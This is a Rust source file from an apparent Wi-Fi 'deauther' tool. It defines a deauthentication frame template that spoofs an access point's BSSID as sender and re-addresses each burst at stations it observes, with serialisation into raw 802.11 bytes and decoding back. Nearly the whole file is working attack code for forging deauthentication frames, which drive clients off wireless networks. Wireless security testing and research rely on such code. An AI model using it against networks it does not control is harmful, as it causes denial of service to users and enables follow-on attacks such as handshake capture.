//! Deauthentication frame template
//!
//! One [`DeauthFrame`] is built per attack session and re-addressed in place
//! for every burst. Serialisation writes into a fixed array so the receive
//! path never allocates.

use crate::ieee80211::DEAUTH_FC0;
use deauther_core::{MacAddr, ReasonCode};

/// Frame-control bytes of a deauthentication frame
pub const DEAUTH_FRAME_CONTROL: [u8; 2] = [DEAUTH_FC0, 0x00];

/// Fragment/sequence bytes carried by every injected frame
pub const DEAUTH_FRAGMENT_SEQUENCE: [u8; 2] = [0xF0, 0xFF];

/// Serialised size of a deauthentication frame (no FCS)
pub const DEAUTH_FRAME_LEN: usize = 26;

/// Reusable deauthentication frame
///
/// ```text
/// 0      2        4         10        16             22       24
/// | C0 00 | duration | station | sender | access point | F0 FF | reason |
/// ```
///
/// `station` is the receiver, `sender` the spoofed transmitter and
/// `access_point` the BSSID.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DeauthFrame {
    pub duration: u16,
    pub station: MacAddr,
    pub sender: MacAddr,
    pub access_point: MacAddr,
    pub reason: ReasonCode,
}

impl DeauthFrame {
    /// Create a template with zeroed addresses
    pub fn new(reason: ReasonCode) -> Self {
        Self {
            duration: 0,
            station: MacAddr::zero(),
            sender: MacAddr::zero(),
            access_point: MacAddr::zero(),
            reason,
        }
    }

    /// Impersonate `bssid` as both access point and transmitter
    pub fn with_target(mut self, bssid: MacAddr) -> Self {
        self.access_point = bssid;
        self.sender = bssid;
        self
    }

    /// Address the next burst at a station talking to the configured target
    pub fn address_for_single_target(&mut self, observed_src: MacAddr) {
        self.station = observed_src;
    }

    /// Address the next burst at an observed station/access point pair,
    /// impersonating the access point
    pub fn address_for_broad_target(&mut self, observed_src: MacAddr, observed_dest: MacAddr) {
        self.station = observed_src;
        self.access_point = observed_dest;
        self.sender = observed_dest;
    }

    /// Serialise into a fixed buffer
    pub fn to_bytes(&self) -> [u8; DEAUTH_FRAME_LEN] {
        let mut bytes = [0u8; DEAUTH_FRAME_LEN];
        bytes[0..2].copy_from_slice(&DEAUTH_FRAME_CONTROL);
        bytes[2..4].copy_from_slice(&self.duration.to_le_bytes());
        bytes[4..10].copy_from_slice(self.station.as_bytes());
        bytes[10..16].copy_from_slice(self.sender.as_bytes());
        bytes[16..22].copy_from_slice(self.access_point.as_bytes());
        bytes[22..24].copy_from_slice(&DEAUTH_FRAGMENT_SEQUENCE);
        bytes[24..26].copy_from_slice(&self.reason.value().to_le_bytes());
        bytes
    }

    /// Decode a deauthentication frame
    ///
    /// Returns `None` for short input or a different frame-control value.
    pub fn from_bytes(data: &[u8]) -> Option<Self> {
        if data.len() < DEAUTH_FRAME_LEN || data[0..2] != DEAUTH_FRAME_CONTROL {
            return None;
        }

        Some(Self {
            duration: u16::from_le_bytes([data[2], data[3]]),
            station: MacAddr::from_slice(&data[4..10])?,
            sender: MacAddr::from_slice(&data[10..16])?,
            access_point: MacAddr::from_slice(&data[16..22])?,
            reason: ReasonCode(u16::from_le_bytes([data[24], data[25]])),
        })
    }
}
